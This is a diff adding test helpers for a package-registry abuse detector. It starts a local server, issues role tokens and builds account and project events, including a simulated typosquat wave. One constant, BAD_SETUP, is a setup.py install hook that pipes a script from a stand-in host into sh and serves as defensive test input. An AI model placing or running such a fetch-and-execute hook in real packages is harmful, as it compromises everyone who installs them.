@@ -1,0 +1,202 @@
+"""Helpers for the service tests: a real uvicorn server on a free port, over SQLite and
+PostgreSQL, with one token per role, and event builders."""
+
+from __future__ import annotations
+
+import itertools
+import socket
+import threading
+import time
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+import uvicorn
+
+from service.app import create_app
+from service.config import ROLES, Settings
+from service.db import make_engine, migrate, session_factory
+from service.tokens import create_token
+
+PG_ADMIN_URL = "postgresql+psycopg://postgres@127.0.0.1:5432/test"
+
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def _pg_reachable() -> bool:
+    try:
+        import psycopg
+
+        with psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=test",
+                             connect_timeout=3):
+            return True
+    except Exception:
+        return False
+
+
+@dataclass
+class Database:
+    url: str
+    kind: str
+    drop: Any = None
+
+
+def _new_pg_database() -> Database:
+    import psycopg
+
+    name = f"warden_svc_{uuid.uuid4().hex[:12]}"
+    with psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=test",
+                         autocommit=True) as conn:
+        conn.execute(f'CREATE DATABASE "{name}"')
+
+    def drop() -> None:
+        with psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=test",
+                             autocommit=True) as conn:
+            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
+
+    return Database(f"postgresql+psycopg://postgres@127.0.0.1:5432/{name}", "postgresql", drop)
+
+
+def new_database(kind: str, tmp: Path) -> Database:
+    if kind == "sqlite":
+        return Database(f"sqlite:///{tmp / f'warden-{uuid.uuid4().hex[:8]}.db'}", "sqlite")
+    if not _pg_reachable():
+        pytest.skip("PostgreSQL is not reachable on 127.0.0.1:5432")
+    return _new_pg_database()
+
+
+@dataclass
+class Server:
+    """A running service: its base URL, one token per role, and a clock for event times."""
+
+    url: str
+    database: Database
+    tokens: dict[str, str]
+    settings: Settings
+    _clock: itertools.count = field(default_factory=lambda: itertools.count())
+    base: datetime = datetime(2024, 3, 1, tzinfo=UTC)
+
+    def client(self, role: str | None = None) -> httpx.Client:
+        headers = {"Authorization": f"Bearer {self.tokens[role]}"} if role else {}
+        return httpx.Client(base_url=self.url, headers=headers, timeout=30)
+
+    def ts(self) -> str:
+        """A fresh, increasing event time (tests share one stream scorer per server)."""
+        moment = self.base + timedelta(seconds=next(self._clock) * 7)
+        return moment.strftime("%Y-%m-%dT%H:%M:%SZ")
+
+    def jump(self, hours: float) -> None:
+        """Move the event clock forward (cohort bursts need some stream history behind them)."""
+        self.base += timedelta(hours=hours)
+
+    def uid(self, prefix: str = "e") -> str:
+        return f"{prefix}-{uuid.uuid4().hex[:12]}"
+
+
+def add_tokens(url: str) -> dict[str, str]:
+    engine = make_engine(url)
+    migrate(engine)
+    with session_factory(engine)() as session:
+        tokens = {role: create_token(session, role, f"test-{role}") for role in ROLES}
+    engine.dispose()
+    return tokens
+
+
+@dataclass
+class _Running:
+    server: uvicorn.Server
+    thread: threading.Thread
+
+
+def start_server(settings: Settings) -> tuple[str, _Running]:
+    port = free_port()
+    config = uvicorn.Config(create_app(settings), host="127.0.0.1", port=port,
+                            log_level="warning", access_log=False, lifespan="on")
+    server = uvicorn.Server(config)
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 60
+    while not server.started:
+        if not thread.is_alive() or time.monotonic() > deadline:
+            raise RuntimeError("the test server did not start")
+        time.sleep(0.05)
+    return f"http://127.0.0.1:{port}", _Running(server, thread)
+
+
+def stop_server(running: _Running) -> None:
+    running.server.should_exit = True
+    running.thread.join(timeout=30)
+
+
+def _test_policy() -> str:
+    """Cohort bursts are normally judged only after days of history; the tests start cold."""
+    from detector.policy import section
+
+    cohorts = section("stream").get("cohorts", {})
+    keys = [k for k in ("warmup_hours", "min_history_hours") if k in cohorts]
+    return "[stream.cohorts]\n" + "".join(f"{k} = 0\n" for k in keys) if keys else ""
+
+
+TEST_POLICY = _test_policy()
+
+
+def run_service(kind: str, tmp: Path, **overrides: Any) -> Iterator[Server]:
+    database = new_database(kind, tmp)
+    policy = tmp / f"policy-{uuid.uuid4().hex[:8]}.toml"
+    policy.write_text(TEST_POLICY)
+    try:
+        tokens = add_tokens(database.url)
+        settings = Settings(**{**Settings.load(database.url, str(policy)).__dict__,
+                               **overrides})
+        url, running = start_server(settings)
+        try:
+            yield Server(url, database, tokens, settings)
+        finally:
+            stop_server(running)
+    finally:
+        if database.drop:
+            database.drop()
+
+
+def account_event(server: Server, username: str | None = None, **account: Any) -> dict[str, Any]:
+    return {"id": server.uid("a"), "ts": server.ts(), "type": "account.created",
+            "account": {"username": username or server.uid("user"), **account}}
+
+
+def wave(server: Server, size: int, prefix: str) -> list[dict[str, Any]]:
+    """A registration wave: throwaway accounts each creating a squat with the same hook."""
+    server.jump(3)
+    events = []
+    for i in range(size):
+        user = f"{prefix}{i}x{uuid.uuid4().hex[:4]}"
+        events.append(account_event(server, user, email=f"{user}@mailbox.example"))
+        events.append(project_event(server, f"reqeusts-{prefix}{i}", user,
+                                    files={"setup.py": BAD_SETUP}))
+    return events
+
+
+def project_event(server: Server, name: str, username: str | None = None,
+                  files: dict[str, str] | None = None, kind: str = "project.created"
+                  ) -> dict[str, Any]:
+    project: dict[str, Any] = {"name": name}
+    if files is not None:
+        project["files"] = files
+    return {"id": server.uid("p"), "ts": server.ts(), "type": kind,
+            "account": {"username": username or server.uid("user")}, "project": project}
+
+
+# A defanged install hook: downloads and runs a script (the host is reserved for examples).
+BAD_SETUP = (
+    "import os\nfrom setuptools import setup\n"
+    "os.system('curl -s http://payload.example/x.sh | sh')\n"
+    "setup(name='demo', version='0.1')\n"
+)
